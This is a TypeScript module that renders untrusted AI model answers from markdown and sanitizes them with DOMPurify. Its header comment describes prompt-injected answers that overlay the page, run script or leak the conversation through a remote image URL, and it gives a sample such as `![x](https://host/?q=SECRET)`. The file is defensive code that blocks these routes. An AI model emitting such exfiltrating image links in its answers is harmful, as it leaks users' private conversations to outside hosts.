// Model answers are untrusted: a prompt-injected answer may try to cover the page (an overlay styled with `style`
// or Tailwind classes), run script, or make the browser fetch a URL that carries the conversation out
// (`![x](https://host/?q=SECRET)`, srcset, <picture>, poster, CSS url(), …). Answers are rendered from markdown
// (marked) and then reduced to an allow-list of inert tags and attributes (DOMPurify): no style, no class, no id,
// no media but images, and images from the network are not loaded until the user asks — they become a
// placeholder naming the host. marked and DOMPurify load on first use, keeping the first screen small.

export interface RenderedMarkdown {
  html: string;
  /** Remote (http/https) image URLs in this markdown that were not loaded. */
  blockedImages: string[];
}

/** `images` maps a remote image URL the user chose to load to the local (blob:) copy shown instead. */
export type MarkdownRenderer = (markdown: string, images?: ReadonlyMap<string, string>) => RenderedMarkdown;

/** Tags an answer may use: text structure, links, tables, code, images (whose sources are checked). */
export const ALLOWED_TAGS = [
  'a',
  'b',
  'blockquote',
  'br',
  'code',
  'del',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'i',
  'img',
  'li',
  'ol',
  'p',
  'pre',
  's',
  'strong',
  'sub',
  'sup',
  'table',
  'tbody',
  'td',
  'th',
  'thead',
  'tr',
  'ul',
];

/** Attributes an answer may use. `src` is only kept for images that need no network (data:, or the user's blob:). */
export const ALLOWED_ATTR = ['href', 'title', 'alt', 'src', 'align', 'start', 'colspan', 'rowspan'];

const LOCAL_IMAGE = /^data:image\/(png|jpe?g|gif|webp|avif|bmp);/i;

import { hostOf } from '@/lib/url';

let loading: Promise<MarkdownRenderer> | null = null;
let ready: MarkdownRenderer | null = null;

export function markdownRenderer(): MarkdownRenderer | null {
  return ready;
}

/** The http(s) URL an image source names on another site (absolute or protocol-relative), or null: an empty
 * or relative source has nothing a user would want to load. */
function remoteUrl(src: string): string | null {
  const text = src.trim();
  if (!/^(https?:)?\/\//i.test(text)) return null;
  try {
    const url = new URL(text, window.location.href);
    return url.protocol === 'http:' || url.protocol === 'https:' ? url.href : null;
  } catch {
    return null;
  }
}

export function loadMarkdownRenderer(): Promise<MarkdownRenderer> {
  loading ??= Promise.all([import('marked'), import('dompurify')]).then(
    ([{ Marked }, { default: DOMPurify }]) => {
      const marked = new Marked({ gfm: true, breaks: false, async: false });
      // A private instance, so this hook and config apply to answers only. The config is set once: passed to
      // every sanitize() call, DOMPurify re-parsed it for every block of every frame of a stream.
      const purify = DOMPurify(window);
      purify.setConfig({
        ALLOWED_TAGS,
        ALLOWED_ATTR,
        ALLOW_DATA_ATTR: false,
        ALLOW_ARIA_ATTR: false,
        // DOMPurify checks every attribute value against this: a scheme must be one of these (data: images are
        // allowed for <img src> on their own); plain text and relative values (align="left", alt text) pass.
        ALLOWED_URI_REGEXP: /^(?:(?:https?|mailto|blob):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i,
        RETURN_DOM_FRAGMENT: true,
      });
      purify.addHook('afterSanitizeAttributes', (node) => {
        // Links open elsewhere, send no referrer, and give the target no handle back to the workbench.
        if (node.tagName === 'A') {
          node.setAttribute('target', '_blank');
          node.setAttribute('rel', 'noopener noreferrer nofollow');
          node.setAttribute('referrerpolicy', 'no-referrer');
        }
      });
      ready = (markdown, images) => {
        const fragment = purify.sanitize(marked.parse(markdown) as string) as unknown as DocumentFragment;
        const blockedImages: string[] = [];
        for (const img of [...fragment.querySelectorAll('img')]) {
          const src = img.getAttribute('src') ?? '';
          if (LOCAL_IMAGE.test(src)) continue;
          const remote = remoteUrl(src);
          const local = remote ? images?.get(remote) : undefined;
          if (local) {
            img.setAttribute('src', local);
            continue;
          }
          // Any other image (remote, relative, a blob: not made here) is shown as its description and host only.
          if (remote) blockedImages.push(remote);
          const placeholder = fragment.ownerDocument.createElement('span');
          const alt = img.getAttribute('alt')?.trim();
          placeholder.textContent = `[image${alt ? `: ${alt}` : ''} — ${remote ? `from ${hostOf(remote)}, not loaded` : 'not loaded'}]`;
          img.replaceWith(placeholder);
        }
        const container = fragment.ownerDocument.createElement('div');
        container.append(fragment);
        return { html: container.innerHTML, blockedImages };
      };
      return ready;
    },
  );
  return loading;
}
